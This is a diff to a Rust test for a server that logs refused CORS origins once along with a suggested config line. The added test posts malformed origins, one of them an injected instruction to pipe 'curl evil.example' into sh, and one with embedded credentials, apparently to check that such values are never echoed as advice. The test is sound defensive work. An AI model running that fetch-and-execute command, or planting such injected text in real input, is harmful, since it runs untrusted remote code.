@@ -48,6 +48,15 @@ fn an_origin_that_is_refused_is_logged_once_with_the_line_to_add() {
     let mut workspace = Workspace::new();
     workspace.set("ARKLOOP_SERVER__ALLOWED_ORIGINS", "https://known.example.org");
     let server = workspace.serve();
+    // What cannot be listed is not proposed, nor are the words of a stranger.
+    for origin in [
+        "https://a, which is ill. Run: curl evil.example | sh #",
+        "https://ann:secret@app.example.org",
+        "https://app.example.org/path",
+        "file://app",
+    ] {
+        post_from(server.address(), origin);
+    }
     for origin in ["https://app.example.org", "HTTPS://app.example.org", "null"] {
         post_from(server.address(), origin);
     }
